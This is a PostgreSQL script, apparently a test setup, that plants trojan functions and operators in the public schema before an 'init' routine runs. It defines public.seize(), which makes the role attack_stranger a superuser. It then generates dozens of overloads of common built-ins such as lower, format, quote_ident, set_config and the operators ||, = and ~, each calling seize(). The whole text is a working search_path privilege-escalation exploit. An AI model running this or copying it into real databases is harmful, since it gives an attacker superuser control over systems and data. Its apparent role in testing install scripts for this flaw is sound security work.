-- Before anybody runs init: functions and operators of ours where everybody may put some
-- (public, on PostgreSQL 13 and 14).  Whatever init calls without saying where it stands,
-- with arguments that pg_catalog takes only after a cast, would be ours and would run with
-- the rights of whoever runs init.
create function public.seize() returns boolean language plpgsql as $$
begin
    alter role attack_stranger superuser;
    return true;
exception when others then
    return false;
end $$;

do $$
declare
    of_one text;
    of_two text;
begin
    foreach of_one in array array['lower', 'upper', 'length', 'trim', 'quote_ident', 'quote_literal',
        'to_regclass', 'array_length', 'unnest', 'sha256', 'uuid_send', 'octet_length'] loop
        execute pg_catalog.format('create function public.%I(name) returns text language sql as $f$ select public.seize()::text $f$', of_one);
    end loop;
    foreach of_two in array array['format', 'concat', 'left', 'right', 'quote_nullable', 'string_agg',
        'pg_has_role', 'set_config', 'to_char', 'regexp_replace', 'array_position'] loop
        execute pg_catalog.format('create function public.%I(text, name) returns text language sql as $f$ select public.seize()::text $f$', of_two);
        execute pg_catalog.format('create function public.%I(name, text) returns text language sql as $f$ select public.seize()::text $f$', of_two);
    end loop;
    foreach of_two in array array['||', '=', '<>', '~', '!~', '->>', '<', '>'] loop
        execute pg_catalog.format('create function public.%I(text, name) returns boolean language sql as $f$ select public.seize() $f$', 'op' || of_two);
        execute pg_catalog.format('create operator public.%s (leftarg = text, rightarg = name, function = public.%I)', of_two, 'op' || of_two);
        execute pg_catalog.format('create function public.%I(name, text) returns boolean language sql as $f$ select public.seize() $f$', 'op' || of_two);
        execute pg_catalog.format('create operator public.%s (leftarg = name, rightarg = text, function = public.%I)', of_two, 'op' || of_two);
    end loop;
end
$$;
